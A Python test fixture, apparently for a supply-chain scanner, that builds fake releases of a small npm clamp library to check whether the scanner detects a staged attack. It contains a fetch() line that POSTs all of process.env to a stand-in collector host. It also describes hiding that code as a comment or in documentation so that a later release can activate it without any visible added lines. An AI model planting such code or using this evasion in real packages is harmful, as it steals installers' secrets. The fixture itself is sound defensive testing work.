"""Code that comes in one release as an example, and runs from the next one on.

Nothing is added by the second release but what ends a comment, or the code moves from the
documentation to where it is loaded: a search of what was added sees nothing. Found by trying to
deceive this very search.

In the staged tarball: code that takes secrets and sends them away, where there was none that ran.
"""

from tests.findings.attack import Attack, release

_SOURCE = "exports.clamp = (n, low, high) => Math.min(Math.max(n, low), high);\n"
_TAKES = """const body = JSON.stringify(process.env);
fetch('https://collector.example.invalid/', { method: 'POST', body });"""
_COMMENT = _SOURCE + f"/* For example:\n{_TAKES}\n*/\n"
_DOCUMENTED = {"docs/use.md": f"```js\n{_TAKES}\n```\n"}
_RUNS = f"{_TAKES}<<<exfiltration>>>\n"

ATTACK = Attack(
    before=release("number-span", "1.0.0", {"index.js": _COMMENT, **_DOCUMENTED}),
    unharmed=release("number-span", "1.1.0", {"index.js": f"// Two.\n{_COMMENT}", **_DOCUMENTED}),
    after={
        "without the marks": release(
            "number-span", "1.1.0", {"index.js": _SOURCE + _RUNS, **_DOCUMENTED}
        ),
        "moved from the documentation": release(
            "number-span",
            "1.1.0",
            {
                "index.js": f"{_SOURCE}require('./lib/use');\n",
                "lib/use.js": _RUNS,
                "docs/use.md": "# Use\n",
            },
        ),
    },
)
